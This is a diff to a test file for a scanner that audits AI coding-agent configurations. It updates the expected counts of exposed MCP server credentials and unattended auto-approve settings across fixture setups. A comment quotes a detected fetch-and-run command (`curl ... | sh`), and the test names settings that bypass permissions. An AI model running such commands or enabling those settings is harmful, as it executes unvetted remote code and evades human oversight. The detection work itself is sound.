@@ -53,8 +53,10 @@ describe('findings over every fixture home', () => {
       // of copilot-mcp (2), credentials, crush, cursor-spec (2), cursor-variants (2), gemini,
       // goose (2), live-claude (3), opencode (2), vscode-variants (2), windows-basic, amazon-q,
       // cline-family (cline's github env token and docs bearer header, roo-code's fs API_TOKEN),
-      // continue-spec (the sqlite server's DB_PASSWORD)
-      'mcp-server-credential': 24,
+      // continue-spec (the sqlite server's DB_PASSWORD), zed-spec's settings (github env token,
+      // linear's older nested env, sentry header), amp-spec's settings (github env token, sentry
+      // header), windsurf-spec's mcp_config.json (github env token, docs bearer header)
+      'mcp-server-credential': 31,
       // copilot-mcp's cached playwright tools mark browser_file_upload destructive
       'mcp-server-destructive': 1,
       // jetbrains-ai-spec's Junie session: an MCP terminal call `curl -s https://example.com/install.sh | sh`
@@ -65,8 +67,10 @@ describe('findings over every fixture home', () => {
       // hostile-html's Claude Code session in bypassPermissions
       'unattended-run': 12,
       // codex-live-0171's config.toml approval_policy=never; cursor-variants' permissions.json
-      // autoRun=true, composerState.useYoloMode=true and modes4.agent.autoRun=true
-      'unattended-setting': 4,
+      // autoRun=true, composerState.useYoloMode=true and modes4.agent.autoRun=true; zed-spec's
+      // always_allow_tool_actions=true (its Linux and Windows settings) and the Claude agent it
+      // drives in bypassPermissions; amp-spec's dangerouslyAllowAll=true
+      'unattended-setting': 8,
     });
   });
 
